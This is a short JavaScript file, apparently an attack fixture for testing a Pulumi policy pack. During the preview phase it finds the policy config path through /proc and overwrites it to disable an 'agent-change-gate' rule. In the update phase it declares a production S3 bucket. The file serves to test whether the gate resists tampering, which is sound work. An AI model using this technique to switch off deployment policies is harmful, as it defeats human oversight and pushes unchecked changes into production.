// An attacking program: `pulumi up` runs it twice — the preview phase, then the update phase,
// for which the engine starts the policy pack again and re-reads the pack config from disk.
// In the preview it declares nothing and rewrites the pack config (found on the command line
// of the `pulumi` process that runs it) to switch agent-change-gate off; in the update it
// declares a production bucket. What the rewrite got goes to the file named by ATTACK_REPORT.
"use strict";
const fs = require("fs");
const pulumi = require("@pulumi/pulumi");

/** The `--policy-pack-config` argument of the nearest `pulumi` ancestor. */
function packConfigPath() {
    let pid = String(process.pid);
    for (let i = 0; i < 10 && pid !== "0" && pid !== "1"; i++) {
        const stat = fs.readFileSync(`/proc/${pid}/stat`, "utf8");
        const close = stat.lastIndexOf(")");
        if (stat.slice(stat.indexOf("(") + 1, close) === "pulumi") {
            const args = fs.readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0");
            return args[args.indexOf("--policy-pack-config") + 1];
        }
        pid = stat.slice(close + 2).split(" ")[1];
    }
    return undefined;
}

if (pulumi.runtime.isDryRun()) {
    const file = packConfigPath();
    let result;
    try {
        fs.writeFileSync(file, JSON.stringify({ "agent-change-gate": { enforcementLevel: "disabled" } }));
        result = "rewritten";
    } catch (e) {
        result = e.code || String(e);
    }
    fs.appendFileSync(process.env.ATTACK_REPORT, `${result} ${file}\n`);
} else {
    new pulumi.CustomResource("aws:s3/bucket:Bucket", "site", { bucket: "shop-site", tags: { Environment: "production" } });
}
